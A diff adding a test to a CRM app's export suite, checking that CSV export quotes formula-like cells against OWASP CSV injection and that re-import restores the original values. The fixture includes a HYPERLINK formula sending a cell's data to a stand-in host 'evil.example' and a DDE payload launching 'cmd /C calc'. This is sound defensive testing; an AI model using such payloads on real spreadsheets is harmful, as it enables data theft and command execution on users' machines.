@@ -231,6 +231,51 @@ describe('export', () => {
     expect(held).toHaveLength(1);
   });
 
+  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection), and re-imports them unchanged', async () => {
+    const risky = {
+      name: '=HYPERLINK("http://evil.example/?d="&B2,"open")',
+      industry: '注入测试',
+      region: '+1+1',
+      source: '-2+3',
+      notes: '@SUM(1+1)*cmd|" /C calc"!A0',
+      contacts: [{ name: '注入联系人', title: '=1+2', phone: '+86 138 0000 0001' }],
+    };
+    const created = await app.api(app.org.admin, 'POST', '/api/accounts', risky);
+    expect(created.status).toBe(201);
+    const q = `?industry=${encodeURIComponent('注入测试')}`;
+    const bytes = await exportFile(app.org.admin, q);
+    const rows = parse(bytes, { bom: true }) as string[][];
+    expect(rows).toHaveLength(2);
+    const cells = rows[1]!;
+    expect(cells[0]).toBe(`'${risky.name}`);
+    expect(cells).toContain(`'${risky.region}`);
+    expect(cells).toContain(`'${risky.source}`);
+    expect(cells).toContain(`'${risky.notes}`);
+    expect(cells).toContain(`'=1+2`);
+    expect(cells).toContain(`'+86 138 0000 0001`);
+    expect(cells).toContain('注入测试'); // a plain cell is left as it is
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    // The import takes the quote off: the same file is the same account, and a fresh import stores
+    // the original values.
+    const again = await importFile(app.org.admin, bytes, true);
+    expect(again.body.summary).toEqual({ create: 0, merge: 1, refuse: 0 });
+    await app.db.prisma.account.delete({ where: { id: created.body.id } });
+    const recreated = await importFile(app.org.admin, bytes, false);
+    expect(recreated.body.summary).toEqual({ create: 1, merge: 0, refuse: 0 });
+    const row = await app.db.prisma.account.findFirstOrThrow({
+      where: { industry: '注入测试' },
+      include: { contacts: true },
+    });
+    expect(row).toMatchObject({
+      name: risky.name,
+      region: risky.region,
+      source: risky.source,
+      notes: risky.notes,
+    });
+    expect(row.contacts.map((c) => [c.title, c.phone])).toEqual([['=1+2', '+86 138 0000 0001']]);
+  });
+
   it('round-trips: the exported file re-imports to the same accounts and contacts', async () => {
     const q = `?q=${encodeURIComponent('导出测试')}`;
     const first = await exportFile(app.org.admin, q);
